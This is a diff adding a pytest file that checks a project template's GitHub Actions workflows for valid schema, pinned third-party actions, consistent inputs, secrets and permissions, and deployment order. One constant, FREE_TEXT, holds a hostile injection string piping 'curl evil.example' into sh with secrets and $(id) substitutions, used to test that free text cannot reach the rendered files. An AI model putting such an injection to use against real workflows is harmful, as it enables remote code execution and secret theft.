@@ -1,0 +1,143 @@
+"""The platform's workflows and every project's callers: sound, pinned, and in agreement."""
+
+from __future__ import annotations
+
+import re
+from pathlib import Path
+
+import pytest
+import yaml
+
+from tests.templates.real_tools import workflows
+from tests.templates.real_tools.toolbox import run, tool
+from tests.templates.rendering import REPOSITORY, VARIATIONS, render, sample_policy
+
+pytestmark = pytest.mark.tools
+
+COMMIT = re.compile(r"[0-9a-f]{40}")
+FREE_TEXT = 'x"; curl evil.example | sh #\' ${{ secrets.ALL }} $(id) `id`'
+
+
+@pytest.fixture(scope="module")
+def projects(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
+    """One project of every variation."""
+    return [
+        render("online-serving", tmp_path_factory.mktemp("project"), **answers)
+        for answers in VARIATIONS.values()
+    ]
+
+
+@pytest.fixture(scope="module")
+def files(projects: list[Path]) -> list[Path]:
+    """Every workflow, ours and theirs."""
+    callers = [f for p in projects for f in sorted((p / ".github/workflows").iterdir())]
+    return sorted(workflows.REUSABLE.glob("*.yml")) + callers
+
+
+def test_every_workflow_and_action_has_a_valid_form(files: list[Path]) -> None:
+    checker = tool("check-jsonschema")
+    actions = sorted(workflows.ACTIONS.rglob("action.yml"))
+
+    run(checker, "--builtin-schema", "vendor.github-workflows", *files)
+    run(checker, "--builtin-schema", "vendor.github-actions", *actions)
+
+
+def test_actionlint_and_shellcheck_find_nothing(files: list[Path]) -> None:
+    tool("shellcheck")
+
+    run(tool("actionlint"), *files, cwd=REPOSITORY)
+
+
+def test_zizmor_finds_nothing_at_its_strictest(files: list[Path]) -> None:
+    actions = sorted(workflows.ACTIONS.rglob("action.yml"))
+
+    run(tool("zizmor"), "--offline", "--persona", "pedantic", *files, *actions)
+
+
+def test_an_ignored_finding_has_its_reason_beside_it(files: list[Path]) -> None:
+    for file in files:
+        for line in file.read_text().splitlines():
+            if "zizmor: ignore" in line:
+                assert re.search(r"zizmor: ignore\[[\w-]+\] \w+", line), f"{file.name}: {line}"
+
+
+def test_every_action_of_a_third_party_is_pinned_as_the_policy_lists_it(
+    projects: list[Path],
+) -> None:
+    policy = sample_policy()
+    listed = {a["uses"]: (a["sha"], a["version"]) for a in policy["available"]["actions"].values()}
+    folders = [workflows.REUSABLE, workflows.ACTIONS, *(p / ".github" for p in projects)]
+
+    for file, what, sha, version in workflows.pins(*folders):
+        assert COMMIT.fullmatch(sha), f"{file}: {what}@{sha}"
+        if not what.startswith(policy["platform"]["repository"]):
+            assert listed.get(what) == (sha, version), f"{file}: {what}"
+
+
+def test_projects_call_the_platform_at_its_one_pin(projects: list[Path]) -> None:
+    pin = yaml.safe_load((REPOSITORY / "templates/_shared/workflows.json").read_text())
+    platform = sample_policy()["platform"]["repository"]
+    for project in projects:
+        ours = [p for p in workflows.pins(project / ".github") if p[1].startswith(platform)]
+
+        assert ours
+        assert {(sha, version) for _, _, sha, version in ours} == {(pin["sha"], pin["version"])}
+
+
+def test_caller_and_callee_agree_on_inputs_secrets_and_permissions(projects: list[Path]) -> None:
+    for project in projects:
+        for call in workflows.calls(project):
+            asked = workflows.callee(call)
+            inputs, secrets = asked.get("inputs", {}), asked.get("secrets", {})
+            given = call.body.get("with", {})
+            assert given.keys() <= inputs.keys(), call
+            assert {n for n, i in inputs.items() if i.get("required")} <= given.keys(), call
+            kinds = {"string": str, "boolean": bool, "number": (int, float)}
+            assert all(isinstance(v, kinds[inputs[n]["type"]]) for n, v in given.items()), call
+            assert call.body.get("secrets", {}).keys() <= secrets.keys(), call
+            assert {n for n, s in secrets.items() if s.get("required")} <= call.body.get(
+                "secrets", {}
+            ).keys(), call
+            granted, wanted = workflows.granted_and_asked(call)
+            assert wanted.items() <= granted.items(), call
+
+
+def test_a_pull_request_needs_no_secret_no_variable_and_no_identity(projects: list[Path]) -> None:
+    for project in projects:
+        text = (project / ".github/workflows/ci.yml").read_text()
+
+        assert not workflows.REFERENCE.search(text)
+        assert "write" not in text
+
+
+def test_every_listed_secret_is_referred_to_and_no_other(projects: list[Path]) -> None:
+    for project in projects:
+        manifest = yaml.safe_load((project / "secrets.yaml").read_text())["secrets"]
+        assert workflows.references(project / ".github/workflows") == {s["name"] for s in manifest}
+
+
+def test_secrets_are_passed_by_name_and_never_inherited(files: list[Path]) -> None:
+    assert not [file for file in files if re.search(r"secrets:\s*inherit", file.read_text())]
+
+
+def test_environments_are_deployed_in_the_policy_s_order(tmp_path: Path) -> None:
+    policy = sample_policy()
+    policy["environments"] = ["test", "live"]
+
+    project = render("online-serving", tmp_path, policy)
+
+    jobs = workflows.read(project / ".github/workflows/deploy.yml")["jobs"]
+    assert list(jobs) == ["policy", "image", "deploy-test", "deploy-live"]
+    assert jobs["image"]["needs"] == "policy"
+    assert jobs["deploy-test"]["needs"] == ["image"]
+    assert jobs["deploy-live"]["needs"] == ["image", "deploy-test"]
+
+
+def test_free_text_reaches_no_workflow_no_image_and_no_manifest(tmp_path: Path) -> None:
+    plain = render("online-serving", tmp_path / "plain", description="plain")
+    hostile = render("online-serving", tmp_path / "hostile", description=FREE_TEXT)
+
+    for part in (".github/workflows", "deploy", "monitoring", "Dockerfile"):
+        for file in [plain / part, *(plain / part).rglob("*")]:
+            if file.is_file():
+                assert (hostile / file.relative_to(plain)).read_bytes() == file.read_bytes()
